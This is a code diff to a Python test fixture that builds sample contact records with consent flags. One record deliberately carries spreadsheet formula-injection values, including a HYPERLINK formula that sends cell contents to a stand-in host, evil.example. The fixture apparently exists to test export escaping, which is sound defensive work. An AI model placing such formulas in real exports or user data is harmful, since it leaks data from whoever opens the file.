@@ -31,8 +31,8 @@ def _signup(uuid: str, event: str, when: dt.datetime, interests=(), email=False,
 
 
 def sample_records() -> list[ContactRecord]:
-    """Three people: Urdu name with email+SMS consent, a hostile name without consent, a
-    phone-only contact who signed up twice."""
+    """Three people: Urdu name with email+SMS consent, a hostile name with a phone and no consent
+    at all, a phone-only contact who signed up twice (texts: no, then yes)."""
     t1 = dt.datetime(2026, 6, 14, 17, 5, 9, 123456, tzinfo=UTC)
     t2 = dt.datetime(2026, 6, 14, 18, 30, tzinfo=UTC)
     t3 = dt.datetime(2026, 9, 2, 15, 0, tzinfo=UTC)
@@ -51,7 +51,8 @@ def sample_records() -> list[ContactRecord]:
         ContactRecord(
             id=2, uuid="aaaaaaaa-0000-4000-8000-000000000002",
             first_name='=HYPERLINK("http://evil.example/?"&A1,"click")', last_name="-2+3",
-            email="mallory@example.net", phone="", postal_code="", note="@SUM(A1:A9)",
+            email="mallory@example.net", phone="+16125550199", postal_code="",
+            note="@SUM(A1:A9)",
             consent_email=False, consent_sms=False, created_at=t2, updated_at=t2,
             interests=(), event_ids=(1,),
             signups=(_signup("bbbbbbbb-0000-4000-8000-000000000002", ev1, t2),),
